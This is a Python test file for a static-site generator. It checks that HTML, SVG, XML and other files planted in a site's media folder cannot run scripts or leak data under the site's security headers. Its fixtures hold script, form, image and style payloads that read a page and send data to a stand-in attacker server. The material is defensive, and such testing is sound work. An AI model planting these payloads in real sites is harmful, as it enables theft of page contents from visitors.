"""A page that somebody has slipped in among the files that texts link to can do nothing."""

import re
import time
import wave
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from threading import Thread
from typing import Any
from urllib.error import HTTPError
from urllib.request import urlopen

import pytest
from hosts import hosted, needs
from playwright.sync_api import Browser
from previews import running, settings_file
from support import Site
from visitor import needs_browser, opened

from plenary.theme import MEDIA_POLICY, POLICY

NEWS = "news/2024-11-07-opening/"
SECRET = "pages/secret/"
# Reads what only a preview shows, and sends it away: by a script, a style, a form, a picture
ATTACK = """<!doctype html><html><head><title>quiet</title>
<style>body { background: url(ADDRESSstyle) }</style></head>
<body onload="document.title = 'ran'"><img src="ADDRESSpicture"><iframe src="/en/about/"></iframe>
<form id="f" action="ADDRESSform"></form>
<script>
document.title = 'ran';
fetch('/en/about/').then(a => a.text()).then(t => fetch('ADDRESSstolen?' + t.length));
document.getElementById('f').submit();
</script></body></html>
"""
FILES = {
    "page.html": ATTACK,
    "page.xhtml": '<html xmlns="http://www.w3.org/1999/xhtml"><head><title>quiet</title></head>'
    "<body><script>document.title = 'ran'; fetch('ADDRESSstolen')</script></body></html>",
    "page.svg": '<svg xmlns="http://www.w3.org/2000/svg"><title>quiet</title><script>'
    "document.title = 'ran'; fetch('ADDRESSstolen')</script>"
    '<image href="ADDRESSpicture"/></svg>',
    "page.xml": '<a><x:script xmlns:x="http://www.w3.org/1999/xhtml">'
    "fetch('ADDRESSstolen')</x:script></a>",
    "page.txt": ATTACK,
    "page.pdf": ATTACK,
}


class Thief:
    """Somebody else's server, which writes down who asks for what."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(SimpleHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        Thread(target=self.server.serve_forever, daemon=True).start()
        self.address = f"http://127.0.0.1:{self.server.server_port}/"


@pytest.fixture
def thief() -> Iterator[Thief]:
    """Somebody who waits for what is sent."""
    thief = Thief()
    yield thief
    thief.server.shutdown()
    thief.server.server_close()


def attacked(site: Site, thief: Thief) -> Site:
    """Put the files into the content, and let the settings allow them."""
    links = ""
    for name, text in FILES.items():
        site.write(f"{NEWS}{name}", text.replace("ADDRESS", thief.address))
        links += f"[{name}]({{static}}{name})\n"
    site.change(f"{NEWS}index.en.md", "{static}plan.txt", "{static}plan.txt)\n\n" + links + "[x](#")
    site.settings |= {"ATTACHMENTS": ["html", "xhtml"]}
    return site


def built(site: Site, thief: Thief, **settings: object) -> Path:
    """Return a built tree with the files put into it by hand."""
    site.built(**settings)
    for name, text in FILES.items():
        file = site.output / "media" / NEWS / name
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text(text.replace("ADDRESS", thief.address))
    return site.output


def nothing_happens(browser: Browser, root: str, thief: Thief) -> None:
    """Open each file, alone and within a page of somebody else's, and insist that nothing runs."""
    for name in FILES:
        page = opened(browser, root)
        try:
            page.goto(f"{root}media/{NEWS}{name}", wait_until="commit")
        except Exception as error:  # noqa: BLE001 — Playwright's
            assert "ERR_ABORTED" in str(error) or "Download is starting" in str(error)  # noqa: PT017
        page.wait_for_timeout(300)
        assert page.title() != "ran", name
        page.context.close()
    assert thief.asked == []


def headers_of(folder: Path) -> list[tuple[str, list[tuple[str, str]]]]:
    """Return the rules of ``_headers``: expressions over paths, and what is sent."""
    rules: list[tuple[str, list[tuple[str, str]]]] = []
    for line in (folder / "_headers").read_text().splitlines():
        if line.startswith("/"):
            rules.append((".*".join(map(re.escape, line.split("*"))), []))
        elif line.startswith("  "):
            name, _, value = line.strip().partition(": ")
            rules[-1][1].append((name, value))
    return rules


@contextmanager
def with_headers(folder: Path) -> Iterator[str]:
    """Serve a folder as Netlify and Cloudflare do: rules of ``_headers`` add up."""
    rules = headers_of(folder)

    class Handler(SimpleHTTPRequestHandler):
        def end_headers(self) -> None:
            sent: dict[str, list[str]] = {}
            for pattern, headers in rules:
                if re.fullmatch(pattern, self.path):
                    for name, value in headers:
                        sent.setdefault(name, []).append(value)
            for name, values in sent.items():
                if name != "Content-Type":
                    self.send_header(name, ", ".join(values))
            super().end_headers()

        def log_message(self, format: str, *args: Any) -> None:  # noqa: A002
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Handler, directory=str(folder)))
    Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


@needs_browser
def test_without_any_of_it_the_attack_works(browser: Browser, thief: Thief, tmp_path: Path) -> None:
    """So that the tests below prove something."""
    (tmp_path / "bare").mkdir()
    (tmp_path / "bare/page.html").write_text(ATTACK.replace("ADDRESS", thief.address))
    handler = partial(SimpleHTTPRequestHandler, directory=str(tmp_path / "bare"))
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    Thread(target=server.serve_forever, daemon=True).start()
    page = browser.new_page()
    page.goto(f"http://127.0.0.1:{server.server_port}/page.html", wait_until="commit")
    page.wait_for_timeout(1000)
    page.close()
    server.shutdown()
    server.server_close()
    assert "/picture" in thief.asked
    assert any(path.startswith(("/form", "/stolen")) for path in thief.asked)


def first_answer(address: str) -> Any:
    """Return what a preview answers once it has built."""
    for _ in range(600):
        try:
            return urlopen(address, timeout=60)
        except HTTPError as error:
            error.close()
            time.sleep(0.1)
    pytest.fail("the preview does not build")


@needs_browser
def test_in_the_preview_nothing_runs(browser: Browser, small: Site, thief: Thief) -> None:
    site = attacked(small, thief)
    for name in ("page.svg", "page.xml", "page.txt", "page.pdf"):  # refused, whatever is allowed
        site.change(f"{NEWS}index.en.md", f"[{name}]({{static}}{name})\n", "")
    with running(settings_file(site)) as preview:
        root = preview.address
        with first_answer(f"{root}en/{NEWS}") as answer:
            policy = answer.headers["Content-Security-Policy"]
        assert policy == f"{POLICY}; frame-ancestors 'self'"  # the desk shows it in a frame
        with urlopen(f"{root}media/{NEWS}page.html", timeout=60) as answer:
            assert answer.headers["Content-Security-Policy"] == MEDIA_POLICY
            assert b"stolen" in answer.read()
        nothing_happens(browser, root, thief)


@needs_browser
def test_with_the_rules_for_netlify_and_cloudflare_nothing_runs(
    browser: Browser, small: Site, thief: Thief
) -> None:
    with with_headers(built(small, thief)) as root:
        nothing_happens(browser, root, thief)


@needs_browser
@pytest.mark.parametrize(
    "name", [pytest.param(name, marks=needs(name)) for name in ("nginx", "caddy")]
)
def test_on_a_server_of_ones_own_nothing_runs(
    browser: Browser, small: Site, thief: Thief, name: str, tmp_path: Path
) -> None:
    rules = tmp_path / "rules"
    root = built(small, thief, HOSTING=str(rules))
    (tmp_path / name).mkdir()
    with hosted(name, root, rules, tmp_path / name) as host:
        nothing_happens(browser, f"http://127.0.0.1:{host.port}/", thief)
        for file, kind in (("page.pdf", "attachment"), ("page.txt", "")):
            answer = host.get(f"/media/{NEWS}{file}")
            assert answer["Content-Security-Policy"] == "sandbox; default-src 'none'"
            assert answer["X-Content-Type-Options"] == "nosniff"
            assert answer["Content-Disposition"] == kind


def tone(file: Path) -> None:
    """Write a tenth of a second of silence as WAV."""
    with wave.open(str(file), "wb") as sound:
        sound.setnchannels(1)
        sound.setsampwidth(2)
        sound.setframerate(8000)
        sound.writeframes(b"\0\0" * 800)


@needs_browser
def test_own_sound_with_subtitles_plays_in_a_page(
    browser: Browser, small: Site, serve: Callable[[Path], str]
) -> None:
    tone(small.content / NEWS / "talk.wav")
    small.write(f"{NEWS}talk.vtt", "WEBVTT\n\n00:00.000 --> 00:00.100\nWelcome\n")
    text = (
        '\n\n<audio controls src="{static}talk.wav"></audio>\n\n'
        '<video controls poster="{static}/2024/galleries/banks/bank.png">'
        '<source src="{static}talk.wav" type="audio/wav">'
        '<track default kind="captions" srclang="en" label="English" src="{static}talk.vtt">'
        "</video>\n"
    )
    path = small.content / NEWS / "index.en.md"
    path.write_text(path.read_text("utf-8") + text, encoding="utf-8")
    small.built()
    root = serve(small.output)
    page = opened(browser, f"{root}en/{NEWS}")
    for tag in ("audio", "video"):
        page.wait_for_function(f"document.querySelector('{tag}').readyState >= 1")
        assert page.evaluate(f"document.querySelector('{tag}').duration") == pytest.approx(0.1)
    page.wait_for_function("document.querySelector('track').readyState === 2")
    assert page.evaluate("document.querySelector('video').textTracks[0].cues[0].text") == "Welcome"
    assert page.faults == []  # type: ignore[attr-defined]
    page.context.close()
